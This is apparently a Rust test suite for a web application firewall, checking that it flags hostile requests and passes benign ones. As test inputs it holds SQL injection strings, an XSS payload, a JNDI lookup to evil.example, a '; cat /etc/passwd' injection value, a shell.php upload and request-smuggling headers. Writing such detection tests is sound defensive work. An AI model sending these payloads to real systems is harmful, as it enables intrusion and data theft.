//! Attacks on how a request is read: documents in fields, types that are not true, names within
//! names, depth. What is refused by itself is refused wherever a server may find it.

use super::attacks::encode;
use portcullis::waf::{Exclusion, Field, FieldKind, Place, RawRequest, Ruleset, Waf};
use serde_json::json;

const SQL: &str = "' union select password from users-- ";
const LOOKUP: &str = "${jndi:ldap://evil.example/a}";
const SCRIPT: &str = "<img src=x onerror=alert(1)>";

fn post(waf: &Waf, content_type: &str, body: impl AsRef<[u8]>) -> bool {
    let request = RawRequest::new("POST", "/login").header("content-type", content_type);
    waf.judge(&request.body(&body)).is_hostile()
}

fn get(waf: &Waf, name: &str, value: &str) -> bool {
    let target = format!("/search?{name}={}", encode(value));
    waf.judge(&RawRequest::new("GET", &target)).is_hostile()
}

fn builtin() -> Waf {
    Waf::new(Ruleset::builtin())
}

#[test]
fn graphql_hides_nothing() {
    let waf = builtin();
    let hostile = [
        format!("{{a}}#{SCRIPT}"),
        format!("{{a}}#{SQL}"),
        format!("{{a}}\n# one\n#{SQL}"),
        format!("query {{ a # {SCRIPT}\n }}"),
        format!("{{a(b: \"{SQL}\")}}"),
        format!("{{a(b: \"\"\"{SQL}\"\"\")}}"),
        "{a(b: \"x' union /*\", c: \"*/ select password from users-- \")}".to_owned(),
        "{a} union select password from users".to_owned(),
        "{a 1} union select password from users".to_owned(),
        "{a} or 1=1".to_owned(),
    ];
    for text in &hostile {
        for name in ["query", "mutation"] {
            assert!(get(&waf, name, text), "{name}={text}");
            let body = json!({ name: text }).to_string();
            assert!(post(&waf, "application/json", body), "{name}: {text}");
            let form = format!("{name}={}", encode(text));
            assert!(
                post(&waf, "application/x-www-form-urlencoded", form),
                "{text}"
            );
        }
    }
    let honest = [
        "{ viewer { login orders(last: 32) { nodes { id total } } } }",
        "query Q($id: ID!, $all: Boolean = false) { user(id: $id) { name @include(if: $all) ...F } }\nfragment F on User { id }",
        "mutation { add(text: \"it's fine; don't worry\", tags: [\"a\", \"b\"], n: -1.5) { id } }",
        "# Ann's query\n{ a(order: {by: NAME, dir: \"desc\"}) { ... on B { c } } } # the end",
        "query { search(text: \"select a seat or a table\", first: 10) { edges { node { id } } } }",
        "mutation { comment(text: \"\"\"He said \"yes\" & left -- 100% `sure`\"\"\") { id } }",
    ];
    for text in honest {
        assert!(!get(&waf, "query", text), "{text}");
        let body = json!({"query": text, "variables": {"id": "17"}}).to_string();
        assert!(!post(&waf, "application/json", body), "{text}");
    }
}

#[test]
fn what_is_said_of_a_field_is_not_said_of_names_within_others() {
    let inner = |value: &str| json!({ "password": value }).to_string();
    let deeper = |value: &str| json!({ "a": inner(value) }).to_string();
    for kind in [FieldKind::Opaque, FieldKind::Code] {
        let waf = Waf::builder(Ruleset::builtin()).field(Field::named("password"), kind);
        let waf = waf.build().unwrap();
        for value in [inner("' or 1=1-- "), deeper("' or 1=1-- ")] {
            let body = json!({"email": value, "password": "x"}).to_string();
            assert!(post(&waf, "application/json", body), "{kind:?} {value}");
            assert!(get(&waf, "email", &value), "{kind:?} {value}");
            // The field itself is what it was said to be, and all that it holds.
            assert!(!get(&waf, "password", &value), "{kind:?} {value}");
        }
        let body = json!({"email": "ann@example.com", "password": "' or 1=1-- "}).to_string();
        assert!(!post(&waf, "application/json", body), "{kind:?}");
    }
}

#[test]
fn what_is_said_of_a_field_holds_for_what_stands_in_it() {
    let query = "select name from users where id=1 or 1=1--";
    let document = json!({ "title": "x", "queries": [query] }).to_string();
    let waf = Waf::builder(Ruleset::builtin())
        .field(Field::named("report"), FieldKind::Code)
        .build()
        .unwrap();
    assert!(!get(&waf, "report", &document));
    assert!(get(&waf, "other", &document));
    let lookup = json!({ "queries": ["${jndi:ldap://evil.example/a}"] }).to_string();
    assert!(get(&waf, "report", &lookup));
}

#[test]
fn exclusions_do_not_hold_for_names_within_others() {
    let field = || Field::named("note").at(Place::Json);
    let waf = Waf::builder(Ruleset::builtin())
        .exclude(Exclusion::of_rule("protocol-nul", field()))
        .build()
        .unwrap();
    let inner = json!({"note": "a\0b"}).to_string();
    assert!(!post(
        &waf,
        "application/json",
        json!({"note": "a\0b"}).to_string()
    ));
    assert!(!post(
        &waf,
        "application/json",
        json!({ "note": inner }).to_string()
    ));
    assert!(post(
        &waf,
        "application/json",
        json!({ "other": inner }).to_string()
    ));
    let report = waf.explain(
        &RawRequest::new("POST", "/")
            .header("content-type", "application/json")
            .body(&json!({ "other": inner }).to_string()),
    );
    // The field that an exclusion would have to name.
    assert_eq!(report.matches()[0].location().to_string(), "json:other");
}

#[test]
fn secrets_within_documents_are_not_shown() {
    let waf = builtin();
    for (outer, inner) in [("data", "password"), ("password", "data")] {
        let value = json!({ inner: "' union select hunter2 from users-- " }).to_string();
        let target = format!("/?{outer}={}", encode(&value));
        let report = waf.explain(&RawRequest::new("GET", &target));
        assert!(report.is_hostile());
        assert!(
            !format!("{report:?}").contains("hunter2"),
            "{outer} {inner}"
        );
    }
}

#[test]
fn what_stands_behind_depth_is_looked_at() {
    let rules = Ruleset::builtin().without("protocol-json").unwrap();
    let waf = Waf::new(rules.without("protocol-depth").unwrap());
    let deep = |(open, close): (&str, &str), levels: usize, bottom: &str, email: &str| {
        let (open, close) = (open.repeat(levels), close.repeat(levels));
        let (bottom, email) = (json!(bottom), json!(email));
        format!("{{\"x\":{open}{bottom}{close},\"email\":{email},\"password\":\"x\"}}")
    };
    let attack = "1; drop table users";
    for brackets in [("[", "]"), ("{\"a\":", "}"), ("[{\"a\":", "}]")] {
        for levels in [3, 33, 60, 126, 1000] {
            let post = |bottom, email| {
                let body = deep(brackets, levels, bottom, email);
                post(&waf, "application/json", body)
            };
            assert!(post("x", attack), "behind {levels} of {brackets:?}");
            assert!(post(attack, "x"), "below {levels} of {brackets:?}");
            assert!(!post("x", "ann@example.com"), "{levels} of {brackets:?}");
        }
        // There is an end to what is read.
        let body = deep(brackets, 5000, "x", "x");
        assert!(post(&waf, "application/json", body), "{brackets:?}");
    }
    let body = deep(("[", "]"), 33, "x", "x");
    assert!(post(&builtin(), "application/json", body));
}

#[test]
fn a_type_switches_nothing_off() {
    let waf = builtin();
    let types = [
        "application/octet-stream",
        "application/pdf",
        "application/zip",
        "application/grpc",
        "application/protobuf",
        "application/msgpack",
        "application/wasm",
        "image/png",
        "audio/x",
        "video/mp4",
        "font/x",
    ];
    let bodies = [
        json!({ "q": SQL }).to_string(),
        json!([SCRIPT]).to_string(),
        format!("q={}&r=1", encode(SQL)),
        format!("<a><b>{SQL}</b></a>"),
        SQL.to_owned(),
        format!("café {SQL}"),
        "${jndi:ldap://evil.example/a}".to_owned(),
    ];
    for content_type in types {
        for body in &bodies {
            assert!(post(&waf, content_type, body), "{content_type}: {body}");
        }
        let followed = [bodies[0].as_bytes(), b"\0\x01\x02"].concat();
        assert!(post(&waf, content_type, followed), "{content_type}");
        let wide: Vec<u8> = bodies[0]
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        assert!(post(&waf, content_type, wide), "{content_type}");
        assert!(!post(&waf, content_type, "{\"q\":\"x\"}"), "{content_type}");
        for (name, file) in FILES {
            assert!(!post(&waf, content_type, file), "{content_type}: {name}");
        }
    }
}

#[test]
fn files_are_searched_for_what_strikes_anywhere() {
    let waf = builtin();
    let hostile: [&[u8]; 3] = [
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0tEXtComment\0${jndi:ldap://evil.example/a}",
        b"\xac\xed\0\x05sr\0\x11java.util.HashMap",
        b"\0\0rO0ABXNyABFqYXZh",
    ];
    for file in hostile {
        assert!(post(&waf, "application/octet-stream", file));
        assert!(post(
            &waf,
            "multipart/form-data; boundary=b",
            part("; filename=\"a.png\"", "image/png", file)
        ));
    }
}

fn part(parameters: &str, content_type: &str, content: &[u8]) -> Vec<u8> {
    let content_type = match content_type {
        "" => String::new(),
        content_type => format!("Content-Type: {content_type}\r\n"),
    };
    let head = format!(
        "--b\r\nContent-Disposition: form-data; name=\"q\"{parameters}\r\n{content_type}\r\n"
    );
    [head.as_bytes(), content, b"\r\n--b--\r\n"].concat()
}

#[test]
fn a_part_is_a_file_where_every_parser_says_so() {
    let waf = builtin();
    let multipart = "multipart/form-data; boundary=b";
    let parameters = [
        "",
        "; filename=\"\"",
        "; filename=",
        "; filename",
        "; filename=\" \"",
        "; filename*=UTF-8''a.png",
        "; FILENAME=\"a.png\"",
        "; filename = \"a.png\"",
        "; x=\"; filename=a.png\"",
    ];
    let types = [
        "",
        "image/png",
        "application/octet-stream",
        "application/pdf",
        "audio/x",
        "font/x",
    ];
    for parameters in parameters {
        for content_type in types {
            for attack in [SQL, SCRIPT, "${jndi:ldap://evil.example/a}"] {
                let body = part(parameters, content_type, attack.as_bytes());
                assert!(
                    post(&waf, multipart, body),
                    "{parameters} {content_type} {attack}"
                );
            }
            // What browsers send where no file was chosen.
            let body = part(parameters, content_type, b"");
            assert!(!post(&waf, multipart, body), "{parameters} {content_type}");
        }
        for (name, file) in FILES {
            let body = part(parameters, "application/octet-stream", file);
            assert!(!post(&waf, multipart, body), "{parameters} {name}");
        }
    }
    let notes = "-- notes\r\nselect name from users where id = 1; -- it's a file\r\n<b>`ls`</b>";
    for content_type in [
        "",
        "text/plain",
        "text/csv",
        "image/png",
        "application/octet-stream",
    ] {
        let body = part("; filename=\"notes.sql\"", content_type, notes.as_bytes());
        assert!(!post(&waf, multipart, body), "{content_type}");
        for (name, file) in FILES {
            let body = part("; filename=\"a.bin\"", content_type, file);
            assert!(!post(&waf, multipart, body), "{content_type} {name}");
        }
    }
    let script = part("; filename*=UTF-8''shell.php", "", b"x");
    assert!(post(&waf, multipart, script));
}

/// How files of these formats begin.
const FILES: [(&str, &[u8]); 11] = [
    ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0\\r\xa8f\0\0\0\x04gAMA"),
    ("a png with a caption", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\0\0\x01\x16iTXtXML:com.adobe.xmp\0\0\0\0\0<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?> <x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"XMP Core 5.6\"> <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"> <rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"> <dc:title>it's a \"title\"; or 1 = 1</dc:title> </rdf:Description> </rdf:RDF> </x:xmpmeta>"),
    ("jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xdb\0C\0\x08\x06\x06'; `|&"),
    ("gif", b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\n<< /Length 44 /Filter /FlateDecode >>\nstream\nx\x9cK\0\x01'`;|\xff\xfe\nendstream\nendobj\n"),
    ("zip", b"PK\x03\x04\x14\0\0\0\x08\0!\0\0\0\0\0' or 1=1--.txt"),
    ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03K\xcb\xcf\x07\0!es\x8c\x03\0\0\0"),
    ("mp4", b"\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41\0\0\0\x08free"),
    ("webp", b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\x000\x01\0\x9d\x01\x2a"),
    ("a message of gRPC", b"\0\0\0\0\x2c\x0a\x2aHello, it's me; please select a table or 2"),
    ("wasm", b"\0asm\x01\0\0\0\x01\x04\x01`\0\0"),
];

#[test]
fn a_value_is_looked_at_whole_though_it_is_json() {
    let waf = builtin();
    let hostile = [
        "[\"' or not\",\"-- \"]",
        "{\"' or not\":\"-- \"}",
        "{\"a\":[\"' or not\",\"-- \"]}",
        "[\"' union /*\", \"*/ select password from users-- \"]",
        "[\"%27 or not\",\"-- \"]",
        "[\"&#39; or not\",\"-- \"]",
        "[\"\\u0027 or not\",\"-- \"]",
        "[\"<a \",\" onclick=alert(1)>\"]",
    ];
    for text in hostile {
        assert!(get(&waf, "q", text), "{text}");
        let body = json!({ "q": text }).to_string();
        assert!(post(&waf, "application/json", body), "{text}");
    }
    let honest = [
        json!({"name": "Sinéad O'Connor", "and": "rock 'n' roll"}).to_string(),
        json!({"status": "open", "age": {"gte": 18}, "or": [{"a": 1}, {"b": "it's"}]}).to_string(),
        json!(["don't", "select", "a table", "or two", "where you can"]).to_string(),
        json!({"text": "50% off & more", "path": "C:\\data\\new", "n": [1, 2, 3]}).to_string(),
        json!({"a": "She said \"yes\" or \"no\"", "b": "the 'like' button"}).to_string(),
        json!({"type": "doc", "content": [{"type": "text", "text": "It's 5 o'clock; don't be late"}]}).to_string(),
    ];
    for text in honest {
        assert!(!get(&waf, "q", &text), "{text}");
    }
}

#[test]
fn bodies_that_somebody_else_would_read_differently_are_refused() {
    let waf = builtin();
    let cases: [(&str, &[(&str, &str)], bool); 9] = [
        ("chunked", &[("transfer-encoding", "chunked")], false),
        ("in capitals", &[("transfer-encoding", "Chunked")], false),
        (
            "compressed",
            &[("transfer-encoding", "gzip, chunked")],
            true,
        ),
        (
            "compressed at the end",
            &[("transfer-encoding", "chunked, gzip")],
            true,
        ),
        (
            "two headers",
            &[
                ("transfer-encoding", "gzip"),
                ("transfer-encoding", "chunked"),
            ],
            true,
        ),
        (
            "twice the same",
            &[
                ("transfer-encoding", "chunked"),
                ("transfer-encoding", "chunked"),
            ],
            true,
        ),
        ("obsolete", &[("transfer-encoding", "identity")], true),
        (
            "two hosts",
            &[("host", "a.example"), ("host", "b.example")],
            true,
        ),
        (
            "two hosts in one",
            &[("host", "a.example, b.example")],
            true,
        ),
    ];
    for (name, headers, refused) in cases {
        let mut request = RawRequest::new("POST", "/").body("{}");
        for (header, value) in headers {
            request = request.header(header, *value);
        }
        assert_eq!(waf.judge(&request).is_hostile(), refused, "{name}");
    }
}

/// A text that takes more steps than its size is worth, and what stands behind it.
fn heavy(tail: &str) -> String {
    "'/*a".repeat(32 << 10) + tail
}

#[test]
fn a_limit_that_is_switched_off_ends_no_look() {
    let json = "application/json";
    let fields = |tail: &str| json!({"a": vec!["x"; 5000], "b": tail}).to_string();
    let pairs = |a: &str, b: &str| json!({ "a": a, "b": b }).to_string();
    let nested = |tail: &str| format!("[{}\"{tail}\"{}]", "[".repeat(5000), "]".repeat(5000));
    let all = Waf::new(Ruleset::builtin());
    assert!(post(&all, json, fields("x")));
    assert!(post(&all, json, pairs(&heavy(""), "x")));
    assert!(post(&all, json, nested("x")));
    let mut rules = Ruleset::builtin();
    for id in ["protocol-fields", "protocol-work", "protocol-depth"] {
        rules = rules.without(id).unwrap();
    }
    let off = Waf::builder(rules).field(Field::named("a"), FieldKind::Code);
    let off = off.build().unwrap();
    let field = || Field::named("a");
    let excluded = Waf::builder(Ruleset::builtin())
        .field(field(), FieldKind::Code)
        .exclude(Exclusion::of_rule("protocol-work", field()))
        .build()
        .unwrap();
    assert!(!post(&off, json, fields("x")));
    assert!(post(&off, json, fields(SQL)));
    assert!(!post(&off, json, nested("x")));
    assert!(post(&off, json, nested("' union select 1,2-- ")));
    assert!(!post(&off, json, pairs(&heavy(""), "x")));
    assert!(post(&off, json, pairs(&heavy(""), SQL)));
    assert!(post(&off, json, pairs(&heavy(LOOKUP), "x")));
    assert!(!post(
        &excluded,
        json,
        json!({ "a": heavy("") }).to_string()
    ));
    assert!(post(&excluded, json, pairs(&heavy(LOOKUP), "x")));
    // The others have what is left, which is nothing.
    assert!(post(&excluded, json, pairs(&heavy(""), "x")));
}

#[test]
fn what_is_said_of_a_parameter_is_said_of_no_header() {
    let field = Field::named("x-note");
    let opaque = |field| Waf::builder(Ruleset::builtin()).field(field, FieldKind::Opaque);
    let waf = opaque(field.clone()).build().unwrap();
    let request = RawRequest::new("GET", "/");
    let in_header = request.clone().header("x-note", SQL);
    let cookie = format!("x-note={SQL}");
    let in_cookie = request.clone().header("cookie", &cookie);
    assert!(!get(&waf, "x-note", SQL));
    assert!(waf.judge(&in_header).is_hostile());
    assert!(waf.judge(&in_cookie).is_hostile());
    let waf = opaque(field.at(Place::Header)).build().unwrap();
    assert!(get(&waf, "x-note", SQL));
    assert!(!waf.judge(&in_header).is_hostile());
}

#[test]
fn padding_makes_no_file_of_a_field() {
    let waf = builtin();
    let multipart = "multipart/form-data; boundary=b";
    let mut noise = 17_u32;
    let mut noisy = |length: usize| -> Vec<u8> {
        let mut next = || {
            noise = noise.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (noise >> 24) as u8
        };
        (0..length).map(|_| next()).collect()
    };
    for content_type in ["image/png", "application/octet-stream", "audio/x"] {
        for attack in [SQL, SCRIPT, "; cat /etc/passwd"] {
            for padding in [vec![0; 64], noisy(600)] {
                let field = [&padding, attack.as_bytes(), &padding].concat();
                let body = part("", content_type, &field);
                assert!(post(&waf, multipart, body), "{content_type} {attack}");
            }
        }
        let body = part("", content_type, &noisy(64 << 10));
        assert!(!post(&waf, multipart, body), "{content_type}");
    }
}

/// What is remembered as clean is that, and stays it only where nothing else is around it.
#[test]
fn what_was_seen_before_is_seen_again() {
    let waf = builtin();
    let agent = "Mozilla/5.0 (X11; Linux x86_64)";
    for _ in 0..3 {
        let clean = RawRequest::new("GET", "/?phpsessid=abc")
            .header("host", "www.example.com")
            .header("user-agent", agent);
        assert!(!waf.judge(&clean).is_hostile());
        let linked = clean.clone().header("referer", "https://other.example/");
        assert!(waf.judge(&linked).is_hostile());
        let scanner = RawRequest::new("GET", "/").header("user-agent", "sqlmap/1.0");
        assert!(waf.judge(&scanner).is_hostile());
        let attack = RawRequest::new("GET", "/").header("user-agent", SQL);
        assert!(waf.judge(&attack).is_hostile());
    }
}
